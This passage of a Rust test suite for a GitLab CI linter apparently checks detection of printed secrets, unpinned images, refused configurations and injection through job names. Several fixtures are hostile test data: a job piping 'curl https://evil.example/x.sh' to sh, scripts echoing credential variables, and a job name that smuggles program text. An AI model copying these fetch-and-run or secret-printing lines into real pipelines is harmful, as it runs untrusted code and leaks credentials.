    let unread = "include:\n  - local: /ci/templates.yml\nbuild:\n  extends: .build\ntest:\n  extends: .test\n  dependencies: [build]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), unread).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(diags.is_empty(), "{diags:#?}");
}

/// The names a tool gives its credential are secrets when a script reads them
/// (`NPM_AUTH`, `DOCKER_AUTH_CONFIG`, `RAILS_MASTER_KEY`, `CI_JOB_JWT`, `PGPASSWORD`,
/// `MYSQL_PWD`, `GH_PAT`); names of settings about secrets are not (`SECRET_ARN`,
/// `OIDC_TOKEN_ENDPOINT`, `SECRET_DETECTION_DISABLED`), nor are id tokens the job asks for.
#[test]
fn credential_names_read_by_scripts() {
    let dir = scratch("credential-names");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let yaml = format!(
        r#"printed:
  image: {img}
  rules: [{{if: $CI_COMMIT_BRANCH == "main"}}]
  script:
    - echo "$NPM_AUTH"
    - echo "$DOCKER_AUTH_CONFIG"
    - echo "$RAILS_MASTER_KEY"
    - echo "$CI_JOB_JWT_V2"
    - echo "$PGPASSWORD"
    - echo "$MYSQL_PWD"
    - echo "$GH_PAT"
settings:
  image: {img}
  rules: [{{if: $CI_COMMIT_BRANCH == "main"}}]
  id_tokens:
    S3_JWT: {{aud: https://s3.example.com}}
  script:
    - aws secretsmanager get-secret-value --secret-id "$SECRET_ARN" > /tmp/secret.json
    - curl -X POST "$OIDC_TOKEN_ENDPOINT"
    - if [ "$SECRET_DETECTION_DISABLED" = "true" ]; then exit 0; fi
    - echo "$S3_JWT" > /tmp/jwt
"#
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let expected: BTreeSet<String> = (5..=11).map(|line| format!("{line} PL4003")).collect();
    assert_eq!(found, expected, "{diags:#?}");
}

/// A hidden job no job extends (a library's) is checked as the template it is, also
/// when it names jobs (`needs:`, of this pipeline or of another): its image is its own.
#[test]
fn a_library_template_that_needs_jobs_is_checked() {
    let dir = scratch("library-needs");
    // a comment that looks like a `!reference` to it changes nothing
    let yaml = "# usage: script: !reference [.env, script]\n.env:\n  image: ${PROXY}ruby:${RUBY}-alpine\n  needs:\n    - pipeline: $PARENT_PIPELINE_ID\n      job: build-assets\n  script: [make]\n.test:\n  image: ruby:latest\n  needs: [build]\n  dependencies: [build]\n  script: [make test]\n";
    std::fs::write(dir.join("templates.gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(
        &["check", "--format", "json", "templates.gitlab-ci.yml"],
        &dir,
    );
    let found: BTreeSet<String> = places(&diags)
        .into_iter()
        .map(|p| p.replace("templates.gitlab-ci.yml:", ""))
        .collect();
    let expected: BTreeSet<String> = ["3 PL3007", "9 PL3002"].map(String::from).into();
    assert_eq!(found, expected, "{diags:#?}");
}

/// A `.gitlab-ci.yml` that includes nothing it cannot read is the whole configuration:
/// a base or a need defined nowhere, a job with nothing to run, make GitLab refuse it.
/// Another file may be a fragment, and one that includes what is not read may get
/// them from there: nothing is said of those.
#[test]
fn what_gitlab_refuses_in_a_whole_file_is_an_error() {
    let dir = scratch("refusals");
    let img =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!("build:\n  image: {img}\n  script: [make]\ntest:\n  image: {img}\n  needs: [biuld, {{job: lint, optional: true}}]\n  extends: .base\n  script: [make test]\npackage:\n  image: {img}\n  artifacts: {{paths: [dist/]}}\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let matrix = format!("build:\n  image: {img}\n  parallel:\n    matrix: [{{OS: [linux]}}]\n  script: [make]\npar:\n  image: {img}\n  parallel: 3\n  script: [make]\ntest:\n  image: {img}\n  needs: [\"build: [linux]\", \"par 1/3\"]\n  script: [make test]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), matrix).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(
        diags.is_empty(),
        "instances of matrix and parallel jobs: {diags:#?}"
    );
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1);
    let found: Vec<String> = diags
        .iter()
        .map(|d| {
            format!(
                "{} {} {}",
                d["line"],
                d["code"].as_str().unwrap_or_default(),
                d["help"]
            )
        })
        .collect();
    assert_eq!(found.len(), 3, "{found:#?}");
    assert!(
        found[0].starts_with("6 PL1001") && found[0].contains("`build`"),
        "{found:#?}"
    );
    assert!(
        found[1].starts_with("7 PL1001") && found[1].contains(".base"),
        "{found:#?}"
    );
    assert!(found[2].starts_with("9 PL1005"), "{found:#?}");
    std::fs::write(dir.join("jobs.gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", "jobs.gitlab-ci.yml"], &dir);
    assert!(diags.is_empty(), "a fragment: {diags:#?}");
    let included =
        format!("include:\n  - project: g/ci\n    ref: v1.0.0\n    file: /t.yml\n{yaml}");
    std::fs::write(dir.join(".gitlab-ci.yml"), included).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(diags.is_empty(), "the include may define them: {diags:#?}");
}

/// `LINE MESSAGE` of each finding, in order.
fn lines_and_messages(diags: &[Value]) -> Vec<String> {
    (diags.iter())
        .map(|d| {
            format!(
                "{} {}",
                d["line"],
                d["message"].as_str().unwrap_or_default()
            )
        })
        .collect()
}

/// A base that a template names, defined nowhere, makes GitLab refuse the file as a
/// job's own does; the jobs that reach one cause (a template's `stage:` that `stages:`
/// does not list) are one finding that names them.
#[test]
fn refusals_below_a_template_are_one_finding_per_cause() {
    let dir = scratch("refusals-below");
    let img =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!("stages: [build]\n.base:\n  extends: .missing\n  stage: release\n  image: {img}\n  script: [make]\na:\n  extends: .base\nb:\n  extends: .base\nc:\n  extends: .base\nd:\n  extends: .base\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:#?}");
    let found = lines_and_messages(&diags);
    assert_eq!(
        found,
        [
            "3 jobs `a`, `b`, `c` and 1 more extend `.missing`, which this file does not define and includes from nowhere: GitLab refuses the file",
            "4 jobs `a`, `b`, `c` and 1 more are in stage `release`, which `stages:` does not list: GitLab refuses the file",
        ],
        "{diags:#?}"
    );
    // each job writing the stage itself: one finding at each place (an allow comment
    // silences its own); a hidden job no job uses is refused for its unknown base too
    let yaml = format!("stages: [build]\n.unused:\n  extends: .ghost\na:\n  stage: deploy\n  image: {img}\n  script: [make]\nb:\n  stage: deploy\n  image: {img}\n  script: [make]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let found = lines_and_messages(&diags);
    assert_eq!(
        found,
        [
            "3 job `.unused` extends `.ghost`, which this file does not define and includes from nowhere: GitLab refuses the file",
            "5 job `a` is in stage `deploy`, which `stages:` does not list: GitLab refuses the file",
            "9 job `b` is in stage `deploy`, which `stages:` does not list: GitLab refuses the file",
        ],
        "{diags:#?}"
    );
}

/// A `script:` that is blank, `[]` (a `!reference` to one too) or `""`, is refused by
/// GitLab (it wants a script): PL1005 at the script (at the job when it is another
/// job's); `[""]` is a script.
#[test]
fn an_empty_script_is_an_error() {
    let dir = scratch("empty-script");
    let img =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!(".x:\n  script: []\nlist:\n  image: {img}\n  script: []\ntext:\n  image: {img}\n  script: \"\"\nreferenced:\n  image: {img}\n  script: !reference [.x, script]\nblank-line:\n  image: {img}\n  script: [\"\"]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:#?}");
    let found: Vec<String> = (diags.iter())
        .map(|d| format!("{} {}", d["line"], d["code"].as_str().unwrap_or_default()))
        .collect();
    assert_eq!(found, ["5 PL1005", "8 PL1005", "9 PL1005"], "{diags:#?}");
    let o = plumb_in(&dir, &["check", ".gitlab-ci.yml"]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    insta::assert_snapshot!(out);
    // the job's own key wins over what other files say: in a fragment, beside an include
    let included = format!("include:\n  - template: Jobs/SAST.gitlab-ci.yml\n{yaml}");
    for (name, text) in [
        ("jobs.gitlab-ci.yml", yaml.clone()),
        (".gitlab-ci.yml", included),
    ] {
        std::fs::write(dir.join(name), text).expect("yaml");
        let (diags, _) = json(&["check", "--format", "json", name], &dir);
        let codes: Vec<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
        assert_eq!(codes, ["PL1005"; 3], "{name}: {diags:#?}");
    }
}

/// What GitLab refuses in `dependencies:` naming jobs of other files is refused by the
/// check of a fragment as by the check of its import: one the job's `needs` does not
/// name, and any on a trigger job (PL1003); a matrix instance is needed with its job.
#[test]
fn dependencies_on_jobs_of_other_files_follow_gitlabs_rules() {
    let dir = scratch("outside-dependencies");
    let img =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!("stages: [build, test]\nbuild:\n  stage: build\n  image: {img}\n  parallel:\n    matrix:\n      - ARCH: [amd64, arm64]\n  script: [make]\nnot-needed:\n  stage: test\n  image: {img}\n  needs: [build]\n  dependencies: [outside]\n  script: [t]\ndownstream:\n  stage: test\n  trigger: {{project: g/p}}\n  dependencies: [outside]\nneeded:\n  stage: test\n  image: {img}\n  needs: [outside]\n  dependencies: [outside]\n  script: [t]\ninstance:\n  stage: test\n  image: {img}\n  needs: [build]\n  dependencies: [\"build: [amd64]\"]\n  script: [t]\n");
    std::fs::write(dir.join("jobs.gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", "jobs.gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:#?}");
    let found: Vec<String> = (diags.iter())
        .map(|d| format!("{} {}", d["line"], d["code"].as_str().unwrap_or_default()))
        .collect();
    assert_eq!(found, ["13 PL1003", "18 PL1003"], "{diags:#?}");
    let o = plumb_in(&dir, &["import", "jobs.gitlab-ci.yml", "-o", "ci.plumb"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let (diags, _) = json(&["check", "--format", "json", "ci.plumb"], &dir);
    let codes: Vec<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
    assert_eq!(codes, ["PL1003", "PL1003"], "{diags:#?}");
}

/// A `dependencies:` entry that is no job, and a `stage:` that `stages:` does not list,
/// are refused by GitLab: PL1001 on the name, with the closest one; not in a fragment,
/// nor where an include not read may define them.
#[test]
fn unknown_dependencies_and_stages_are_errors() {
    let dir = scratch("refused-names");
    let img =
        "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91";
    let yaml = format!("stages: [build, test]\nbuild:\n  stage: build\n  image: {img}\n  script: [make]\ntest:\n  stage: tset\n  image: {img}\n  dependencies: [biuld]\n  script: [make test]\nlast:\n  stage: .post\n  image: {img}\n  dependencies: [build]\n  script: [echo done]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1);
    let found: Vec<String> = (diags.iter())
        .map(|d| {
            format!(
                "{} {} {} {}",
                d["line"],
                d["code"].as_str().unwrap_or_default(),
                d["message"],
                d["help"]
            )
        })
        .collect();
    assert_eq!(found.len(), 2, "{found:#?}");
    assert!(
        found[0].starts_with("7 PL1001")
            && found[0].contains("`tset`")
            && found[0].contains("did you mean `test`?"),
        "{found:#?}"
    );
    assert!(
        found[1].starts_with("9 PL1001")
            && found[1].contains("`biuld`")
            && found[1].contains("did you mean `build`?"),
        "{found:#?}"
    );
    std::fs::write(dir.join("jobs.gitlab-ci.yml"), &yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", "jobs.gitlab-ci.yml"], &dir);
    assert!(diags.is_empty(), "a fragment: {diags:#?}");
    // a cycle of `extends`, reached by two jobs: one PL1009
    let cycle = format!(".a:\n  extends: .b\n  script: [make]\n.b:\n  extends: .a\none:\n  extends: .a\n  image: {img}\ntwo:\n  extends: .b\n  image: {img}\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), cycle).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let cycles: Vec<&Value> = diags.iter().filter(|d| d["code"] == "PL1009").collect();
    assert_eq!(cycles.len(), 1, "{diags:#?}");
    assert!(
        cycles[0]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("one → .a → .b → .a"),
        "{diags:#?}"
    );
    // GitLab follows `extends` 11 levels deep: 11 is a file it runs, 12 one it refuses
    let chain = |levels: usize| {
        let mut text = format!(".t{levels}:\n  script: [make]\n");
        for n in (1..levels).rev() {
            text.push_str(&format!(".t{n}:\n  extends: .t{}\n", n + 1));
        }
        text + &format!("job:\n  extends: .t1\n  image: {img}\n")
    };
    for (levels, errors) in [(11, 0), (12, 1)] {
        std::fs::write(dir.join(".gitlab-ci.yml"), chain(levels)).expect("yaml");
        let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
        let deep = diags.iter().filter(|d| d["code"] == "PL1009").count();
        assert_eq!(deep, errors, "{levels} levels: {diags:#?}");
    }
    // a base met first near the job and then again deep down a longer chain: the
    // deep path is the one GitLab refuses
    let mut shared = format!(
        ".c:\n  extends: .t1\n{}",
        chain(9).replace("job:", "ignored:")
    );
    shared.push_str(".long1:\n  extends: .c\n");
    for n in 2..=4 {
        shared.push_str(&format!(".long{n}:\n  extends: .long{}\n", n - 1));
    }
    shared.push_str(&format!("job2:\n  extends: [.c, .long4]\n  image: {img}\n"));
    std::fs::write(dir.join(".gitlab-ci.yml"), shared).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let deep: Vec<&Value> = diags.iter().filter(|d| d["code"] == "PL1009").collect();
    assert_eq!(deep.len(), 1, "{diags:#?}");
    let message = deep[0]["message"].as_str().unwrap_or_default();
    assert!(message.contains("job2 → .long4"), "{message}");
    let included =
        format!("include:\n  - project: g/ci\n    ref: v1.0.0\n    file: /t.yml\n{yaml}");
    std::fs::write(dir.join(".gitlab-ci.yml"), included).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(diags.is_empty(), "the include may define them: {diags:#?}");
}

/// A secret named in keys GitLab expands outside the script (a hook's script, a
/// release's description, an environment's URL, an artifact's name) is PL4002, named by
/// its YAML key.
#[test]
fn secrets_expanded_outside_the_script() {
    let dir = scratch("yaml-hidden-places");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let yaml = format!("hooks:\n  image: {img}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  hooks: {{pre_get_sources_script: ['echo \"$DEPLOY_TOKEN\"']}}\n  script: [make]\nrelease:\n  image: {img}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script: [make]\n  release: {{tag_name: v1, description: \"built with $DEPLOY_TOKEN\"}}\nenv:\n  image: {img}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script: [make]\n  environment: {{name: prod, url: \"https://x.example.com/?t=$DEPLOY_TOKEN\"}}\nart:\n  image: {img}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script: [make]\n  artifacts: {{name: \"a-$DEPLOY_TOKEN\", paths: [x]}}\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let messages: Vec<&str> = diags
        .iter()
        .filter(|d| d["code"] == "PL4002")
        .filter_map(|d| d["message"].as_str())
        .collect();
    for key in ["release.description", "environment.url", "artifacts.name"] {
        assert!(
            messages.iter().any(|m| m.contains(&format!("`{key}`"))),
            "{key}: {messages:#?}"
        );
    }
    // a hook's script runs in the job's shell, as `script:` does: printing the secret
    // there is PL4003, reading it no misuse
    assert!(
        !messages.iter().any(|m| m.contains("hooks")),
        "{messages:#?}"
    );
    let printed = (diags.iter()).filter(|d| d["code"] == "PL4003" && d["line"] == 4);
    assert_eq!(printed.count(), 1, "the hook's echo: {diags:#?}");
}

#[test]
fn the_human_format_draws_the_yaml() {
    let o = plumb(&["check", "fixtures/gitlab/planted.gitlab-ci.yml"]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        !out.lines().any(|l| l.trim_start().starts_with("pipeline ")),
        "the program is not shown:\n{out}"
    );
    insta::assert_snapshot!(out);
}

/// `# plumb-allow:` works in YAML as in Plumb; an expired one is PL1013 and silences
/// nothing.
#[test]
fn allow_comments_work_in_yaml() {
    let dir = scratch("yaml-allow");
    let file = dir.join(".gitlab-ci.yml");
    std::fs::write(
        &file,
        concat!(
            "a:\n",
            "  # plumb-allow: PL3002 the vendor has no other tag\n",
            "  image: node:latest\n",
            "  script: [make]\n",
            "b:\n",
            "  image: ruby:latest  # plumb-allow: PL3002 until 2000-01-01 old\n",
            "  script: [make]\n",
        ),
    )
    .expect("write");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let found = places(&diags);
    assert_eq!(
        found,
        [".gitlab-ci.yml:6 PL1013", ".gitlab-ci.yml:6 PL3002"]
            .into_iter()
            .map(String::from)
            .collect()
    );
}

#[test]
fn invalid_yaml_is_a_syntax_error_on_its_line() {
    let dir = scratch("yaml-invalid");
    std::fs::write(dir.join("x.yml"), "a:\n  script: [make\nb: c\n").expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    assert_eq!(diags.len(), 1, "{diags:?}");
    assert_eq!(diags[0]["code"], "PL0001");
    assert!(diags[0]["message"]
        .as_str()
        .is_some_and(|m| m.contains("not valid YAML")));
}

/// A folder walk checks `.gitlab-ci.yml` files, and not other YAML; one whose first
/// line says `plumb build` wrote it is checked too unless it is what its loaded sources
/// give (`x.plumb` is not there; see `attacks.rs` for the file that is skipped).
#[test]
fn the_walk_reads_gitlab_files_plumb_did_not_write() {
    let dir = scratch("yaml-walk");
    std::fs::create_dir_all(dir.join("app")).expect("mkdir");
    std::fs::write(
        dir.join("app/.gitlab-ci.yml"),
        "a:\n  image: node:latest\n  script: [make]\n",
    )
    .expect("write");
    std::fs::write(
        dir.join("generated.gitlab-ci.yml"),
        "# generated by plumb from x.plumb, do not edit\na:\n  image: node:latest\n  script: [make]\n",
    )
    .expect("write");
    std::fs::write(dir.join("other.yml"), "not: [checked\n").expect("write");
    let (diags, _) = json(&["check", "--format", "json", "."], &dir);
    assert_eq!(
        places(&diags),
        [
            "app/.gitlab-ci.yml:2 PL3002".to_string(),
            "generated.gitlab-ci.yml:3 PL3002".to_string()
        ]
        .into()
    );
}

/// `build`, `graph` and `fmt` take Plumb sources: a YAML file is a usage error that
/// says what to do, never a page of Plumb syntax errors.
#[test]
fn other_commands_refuse_yaml() {
    let o = plumb(&[
        "build",
        "fixtures/gitlab/planted.gitlab-ci.yml",
        "--target",
        "gitlab",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("plumb import"));
}

/// The characters the import frames values with, written into a YAML file, neither
/// move nor hide findings: such a file is checked without precise positions, and a job
/// between two of them is still checked.
#[test]
fn frame_characters_in_the_yaml_do_not_hide_findings() {
    let dir = scratch("yaml-markers");
    let pinned =
        "alpine:3.19@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    std::fs::write(
        dir.join("x.yml"),
        format!(
            "a:\n  image: {pinned}\n  variables: {{ NOTE: \"\u{E000}\" }}\n  script: [echo a]\n\
             evil:\n  image: node:latest\n  script:\n    - curl https://evil.example/x.sh | sh\n\
             z:\n  image: {pinned}\n  variables: {{ NOTE: \"\u{E001}0:0:0\u{E002}\" }}\n  script: [echo z]\n"
        ),
    )
    .expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    let codes: BTreeSet<&str> = diags.iter().filter_map(|d| d["code"].as_str()).collect();
    assert!(
        codes.contains("PL3002") && codes.contains("PL6002"),
        "{diags:?}"
    );
}

/// YAML text the import writes into a comment of the program (a note quoting a job
/// name) cannot end the comment and become program text: a line break in a
/// cross-project `needs:` job name does not hide the job after it.
#[test]
fn line_breaks_in_quoted_yaml_do_not_become_program_text() {
    let dir = scratch("yaml-comment-injection");
    let pinned =
        "alpine:3.19@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let needs = |name: &str| {
        format!("  needs:\n    - project: group/other\n      ref: main\n      job: \"{name}\"\n")
    };
    std::fs::write(
        dir.join("x.yml"),
        format!(
            "a:\n  image: {pinned}\n  script: [echo a]\n{}\
             evil:\n  image: node:latest\n  script:\n    - curl https://evil.example/x.sh | sh\n\
             z:\n  image: {pinned}\n  script: [echo z]\n{}",
            needs(r#"build\njob zzz { image = \"x\", run = [\"\"\""#),
            needs(r#"build\n\"\"\"] }\n#"#),
        ),
    )
    .expect("write");
    let (diags, code) = json(&["check", "--format", "json", "x.yml"], &dir);
    assert_eq!(code, 1);
    assert_eq!(
        places(&diags),
        ["x.yml:9 PL3002", "x.yml:11 PL6002"]
            .into_iter()
            .map(String::from)
            .collect(),
        "{diags:?}"
    );
}

/// Every file of the corpus is read (never a usage error or a crash), and every
/// finding is one a reviewer agreed with, at its YAML line
/// (`tests/review/yaml-corpus.txt`); a reviewed finding no longer found fails too.
#[test]
fn corpus_findings_are_the_reviewed_ones() {
    let Some(files) = common::corpus_files() else {
        return;
    };
    let mut found = Vec::new();
    for file in &files {
        let name = file
            .file_stem()
            .expect("name")
            .to_string_lossy()
            .into_owned();
        let (diags, code) = json(
            &["check", "--format", "json", &file.to_string_lossy()],
            file.parent().expect("corpus folder"),
        );
        assert!(code == 0 || code == 1, "{name}: exit {code}");
        for d in diags {
            found.push(format!(
                "{name} {} {}",
                d["code"].as_str().unwrap_or_default(),
                d["line"]
            ));
        }
    }
    found.sort();
    let accepted = common::reviewed("yaml-corpus.txt");
    assert_eq!(found, accepted, "found (left) vs reviewed (right)");
}

/// A baselined file: an unrelated edit moves every line, one new finding is added, and
/// only that one is reported (and fails the check). A baseline that cannot be read is
/// a usage error, never an empty baseline.
#[test]
fn a_baseline_reports_only_new_findings() {
    let dir = scratch("yaml-baseline");
    let old =
        "a:\n  image: node:latest\n  script: [make]\nb:\n  image: ruby:latest\n  script: [make]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), old).expect("write");
    let o = plumb_in(
        &dir,
        &[
            "check",
            ".gitlab-ci.yml",
            "--write-baseline",
            "plumb-baseline.json",
        ],
    );
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let (diags, code) = json(
        &[
            "check",
            "--format",
            "json",
            ".gitlab-ci.yml",
            "--baseline",
            "plumb-baseline.json",
        ],
        &dir,
    );
    assert_eq!((diags.len(), code), (0, 0), "{diags:?}");
    let new = format!("stages: [test]\n\n{old}c:\n  image: python:latest\n  script: [make]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), new).expect("write");
    let (diags, code) = json(
        &[
            "check",
            "--format",
            "json",
            ".gitlab-ci.yml",
            "--baseline",
            "plumb-baseline.json",
        ],
        &dir,
    );
    assert_eq!(code, 1);
    assert_eq!(
        places(&diags),
        [".gitlab-ci.yml:10 PL3002".to_string()].into()
    );
    std::fs::write(dir.join("bad.json"), "{\"findings\": 3}").expect("write");
    let o = plumb_in(&dir, &["check", ".gitlab-ci.yml", "--baseline", "bad.json"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not a Plumb baseline"));
}

/// `--write-baseline` writes a new file or an earlier baseline, never the pipeline it
/// checks nor what a link points at; `--baseline` reads a regular file, up to a limit
/// (a device never ends).
#[test]
fn baselines_do_not_overwrite_or_read_what_they_should_not() {
    let dir = scratch("yaml-baseline-attacks");
    let pipeline = "a:\n  image: node:latest\n  script: [make]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), pipeline).expect("write");
    let o = plumb_in(
        &dir,
        &[
            "check",
            ".gitlab-ci.yml",
            "--write-baseline",
            ".gitlab-ci.yml",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        std::fs::read_to_string(dir.join(".gitlab-ci.yml")).expect("read"),
        pipeline
    );
    std::fs::write(dir.join("precious.txt"), "keep").expect("write");
    std::os::unix::fs::symlink(dir.join("precious.txt"), dir.join("link.json")).expect("link");
    let o = plumb_in(
        &dir,
        &["check", ".gitlab-ci.yml", "--write-baseline", "link.json"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        std::fs::read_to_string(dir.join("precious.txt")).expect("read"),
        "keep"
    );
    let o = plumb_in(
        &dir,
        &["check", ".gitlab-ci.yml", "--baseline", "/dev/zero"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not a regular file"));
}

/// A File variable's path given to an option that takes a file (mutual TLS, an SSH
/// key, a Java key store) passes no secret on the command line; a few characters of a
/// token (`${T: -4}`) are no token; the credentials every job has (`CI_JOB_TOKEN`) give
/// an unpinned image nothing it lacked (PL3003 is about the image).
#[test]
fn paths_a_token_s_last_characters_and_job_credentials_are_no_findings() {
    let dir = scratch("yaml-path-options");
    let pinned =
        "alpine:3.20@sha256:1111111111111111111111111111111111111111111111111111111111111111";
    let yaml = format!(
        "deploy:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script:\n\
         \x20   - curl --cert \"$CLIENT_CERT\" --key \"$CLIENT_PRIVATE_KEY\" https://x\n\
         \x20   - ansible-playbook site.yml --private-key \"$SSH_PRIVATE_KEY\"\n\
         \x20   - kubectl --client-key=\"$KUBE_CLIENT_KEY_SECRET\" get pods\n\
         \x20   - java -Djavax.net.ssl.keyStore=\"$JKS_KEYSTORE\" -jar a.jar\n\
         \x20   - 'echo \"token ending in ${{API_TOKEN: -4}}\"'\n\
         push:\n  image: docker:27.3.1\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n\
         \x20 script: [echo \"$CI_REGISTRY_PASSWORD\" | docker login -u x --password-stdin]\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    let expected: BTreeSet<String> = ["11 PL3003".to_string()].into();
    assert_eq!(found, expected, "{diags:#?}");
    // a key piped to `ssh-add -` is the key itself: given to a path option too, its
    // echo still prints it; and pieces of a token from its middle rebuild it
    let yaml = format!(
        "deploy:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script:\n\
         \x20   - echo \"$SSH_PRIVATE_KEY\" | tr -d \"\\r\" | ssh-add -\n\
         \x20   - ansible-playbook -i inv --private-key \"$SSH_PRIVATE_KEY\" site.yml\n\
         \x20   - echo \"$SSH_PRIVATE_KEY\" > /dev/stderr\n\
         \x20   - 'echo \"${{DEPLOY_TOKEN:0:4}}${{DEPLOY_TOKEN:4:4}}\"'\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    for line in ["7 PL4003", "8 PL4003"] {
        assert!(found.contains(line), "{line}: {diags:#?}");
    }
}

/// `curl … | sh -s -- -b $(go env GOPATH)/bin` runs the download (the substitution's
/// command is no step of the pipe); `2022-latest` moves like `latest`; `env | sort`
/// prints the environment by `env`, named after the project's secret before the job
/// token every job has.
#[test]
fn review_misses_are_found_where_they_are() {
    let dir = scratch("yaml-review-misses");
    let pinned =
        "alpine:3.20@sha256:1111111111111111111111111111111111111111111111111111111111111111";
    let yaml = format!(
        "lint:\n  image: {pinned}\n  script:\n\
         \x20   - curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.57.2\n\
         db:\n  image: mcr.microsoft.com/mssql/server:2022-latest\n  script: [./test]\n\
         b:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script:\n\
         \x20   - curl --header \"JOB-TOKEN:$CI_JOB_TOKEN\" --upload-file x https://x\n\
         \x20   - echo \"$KUBE_CONFIG_B64\" | base64 -d > kubeconfig\n\
         \x20   - env | sort\n"
    );
    let (found, diags) = lines_found(&dir, &yaml);
    for line in ["4 PL6002", "6 PL3002", "14 PL4003"] {
        assert!(found.contains(line), "{line}: {found:?}");
    }
    let printed = (diags.iter())
        .find(|d| d["code"] == "PL4003")
        .and_then(|d| d["message"].as_str())
        .unwrap_or_default();
    assert!(
        printed.contains("KUBE_CONFIG_B64") && printed.ends_with("by `env`"),
        "{printed}"
    );
}

/// A walk does not read a GitLab CI file that is a link into `.git` (its `config` holds
/// the remotes' tokens, which a syntax error would quote).
#[test]
fn a_ci_file_linked_into_git_is_not_read() {
    let dir = scratch("yaml-link-into-git");
    std::fs::create_dir_all(dir.join(".git")).expect("git");
    std::fs::write(
        dir.join(".git/config"),
